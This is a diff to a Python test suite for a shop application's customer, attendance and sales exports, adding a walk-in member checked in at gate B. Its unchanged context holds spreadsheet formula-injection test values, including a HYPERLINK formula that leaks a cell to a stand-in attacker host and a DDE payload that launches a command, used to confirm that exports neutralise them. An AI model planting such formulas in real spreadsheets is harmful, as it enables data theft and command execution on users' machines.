@@ -24,6 +24,7 @@ HANG = "Đặng Thị Ánh Hằng"
 AN = "Nguyễn Văn Ẩn Ưu Ỷ Ợ Ễ Ổ Ũ Ẽ Ờ Ộ"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 SUM = "@SUM(A1:A9)"
+WALKER = "Võ Thị Ấu"
 DDE = "=cmd|' /C calc'!A0"
 FORMULAS = {HYPERLINK, SUM, DDE, "+84 hacker", "-1+1"}
 
@@ -35,6 +36,7 @@ class Planted:
     link: int
     at_sum: int
     erased: int
+    walker: int  # came in with their member card, not invited
     day: date  # the shop's day of the first sale (ten days ago); the next one has two
 
     def dates(self) -> dict[str, str]:
@@ -65,21 +67,28 @@ def _move(db, purchase_id: int, day: date, at: time, zone) -> None:
 
 
 def plant(client, db, settings, admin, clerk) -> Planted:
-    """Four customers (one erased), an event with three guests (one came in at gate A, one
-    invitation cancelled), and sales across a local midnight, one with a coupon."""
+    """Five customers (one erased), an event with three guests (one came in at gate A, one
+    invitation cancelled) and a member who walked in at gate B, and sales across a local
+    midnight, one with a coupon."""
     h = admin.headers
     hang = _customer(client, h, HANG, "0912000001", email="hang@example.vn", tags=["vip"],
                      notes=DDE)
     link = _customer(client, h, HYPERLINK, "0912000002", notes="+84 hacker")
     at_sum = _customer(client, h, SUM, "0912000003", tags=["-1+1"])
     erased = _customer(client, h, AN, "0912000004")
-    event = client.post("/api/v1/events", headers=h, json=open_event_body(name="Ra mắt"))
+    walker = _customer(client, h, WALKER, "0912000005")
+    event = client.post("/api/v1/events", headers=h,
+                        json=open_event_body(name="Ra mắt", allow_walk_in=True))
     event_id = event.json()["id"]
     invited = client.post(f"/api/v1/events/{event_id}/invitations", headers=h,
                           json={"customer_ids": [hang, link, at_sum]}).json()
     scanned = client.post("/api/v1/checkins", headers=h, json={
         "code": invited[0]["code"], "event_id": event_id, "gate": "A"})
     assert scanned.json()["status"] == "ok", scanned.text
+    card = client.post(f"/api/v1/customers/{walker}/card", headers=h).json()["code"]
+    walked_in = client.post("/api/v1/checkins", headers=h, json={
+        "code": card, "event_id": event_id, "gate": "B"})
+    assert walked_in.json()["status"] == "ok", walked_in.text
     cancelled = client.delete(f"/api/v1/events/{event_id}/invitations/{invited[2]['id']}",
                               headers=h)
     assert cancelled.status_code == 200, cancelled.text
@@ -101,7 +110,7 @@ def plant(client, db, settings, admin, clerk) -> Planted:
     erase = client.post(f"/api/v1/customers/{erased}/erase", headers=h, json={"confirm": True})
     assert erase.status_code == 200, erase.text
     full_pass(db, zone=settings.zone)
-    return Planted(event_id, hang, link, at_sum, erased, day)
+    return Planted(event_id, hang, link, at_sum, erased, walker, day)
 
 
 @pytest.fixture
@@ -143,7 +152,8 @@ def test_attendance_has_a_row_per_invitation_in_csv_and_excel(client, admin, pla
     assert [(r[0], r[1], r[2], r[5], r[7], r[8]) for r in rows] == [
         (HANG, "0912 000 001", "hang@example.vn", "Đã đến", "A", "không"),
         ("'" + HYPERLINK, "0912 000 002", "", "Chưa đến", "", "không"),
-        ("'" + SUM, "0912 000 003", "", "Đã huỷ", "", "không")]
+        ("'" + SUM, "0912 000 003", "", "Đã huỷ", "", "không"),
+        (WALKER, "0912 000 005", "", "Đã đến", "B", "có")]
     assert rows[0][6] and not rows[1][6] and rows[0][3] == "Thành viên"
     assert "+" not in rows[0][4]  # the shop's clock, no zone
     english = _get(client, admin, "attendance.xlsx", event_id=planted.event_id, lang="en")
@@ -151,7 +161,8 @@ def test_attendance_has_a_row_per_invitation_in_csv_and_excel(client, admin, pla
     [(title, [header, *rows])] = xlsx_sheets(english.content).items()
     assert (title, header[0], header[6]) == ("Attendance", "Guest", "Checked in at")
     assert [(r[0], r[5], r[8]) for r in rows] == [
-        (HANG, "Checked in", "no"), (HYPERLINK, "Not arrived", "no"), (SUM, "Cancelled", "no")]
+        (HANG, "Checked in", "no"), (HYPERLINK, "Not arrived", "no"), (SUM, "Cancelled", "no"),
+        (WALKER, "Checked in", "yes")]
     assert isinstance(rows[0][6], datetime) and rows[1][6] is None
 
 
@@ -160,7 +171,8 @@ def test_customers_come_with_their_status_and_reason_and_no_formula(client, admi
     assert header[:8] == ["Mã thành viên", "Họ tên", "Điện thoại", "E-mail", "Hạng", "Điểm",
                           "Nhịp ghé", "Lý do"]
     by_id = {int(row[0]): row for row in rows}
-    assert set(by_id) == {planted.hang, planted.link, planted.at_sum}  # not the erased one
+    # Everyone but the erased customer.
+    assert set(by_id) == {planted.hang, planted.link, planted.at_sum, planted.walker}
     hang = by_id[planted.hang]
     assert hang[1:8] == [HANG, "0912 000 001", "hang@example.vn", "Thành viên", "80",
                          "Khách mới", "mới ghé 1 lần"]
@@ -212,9 +224,10 @@ def test_sales_per_day_on_the_shops_calendar_and_per_staff_member(client, admin,
 def test_a_large_table_is_read_a_page_at_a_time(client, admin, planted, monkeypatch):
     monkeypatch.setattr(exports, "PAGE", 1)
     rows = csv_rows(_get(client, admin, "customers.csv").content)[1:]
-    assert [int(row[0]) for row in rows] == [planted.hang, planted.link, planted.at_sum]
+    assert [int(row[0]) for row in rows] == [planted.hang, planted.link, planted.at_sum,
+                                             planted.walker]
     rows = csv_rows(_get(client, admin, "attendance.csv", event_id=planted.event_id).content)
-    assert len(rows) == 4
+    assert [row[0] for row in rows[1:]] == [HANG, "'" + HYPERLINK, "'" + SUM, WALKER]
     after = (planted.day + timedelta(days=1)).isoformat()
     assert csv_rows(_get(client, admin, "sales.csv", **{"from": after, "to": after}
                          ).content)[1] == [after, "2", "500000", "0"]
